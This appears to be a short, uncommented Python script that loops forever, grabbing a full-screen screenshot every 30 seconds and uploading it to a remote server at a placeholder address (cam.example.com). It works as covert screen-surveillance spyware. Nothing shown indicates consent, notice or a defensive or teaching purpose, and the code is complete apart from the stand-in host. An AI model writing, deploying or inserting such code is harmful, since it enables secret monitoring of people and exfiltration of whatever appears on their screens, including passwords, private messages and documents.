import io
import time
import requests
from PIL import ImageGrab

while True:
    picture = ImageGrab.grab()
    buffer = io.BytesIO()
    picture.save(buffer, "PNG")
    requests.post("https://cam.example.com/in", files={"f": buffer.getvalue()})
    time.sleep(30)
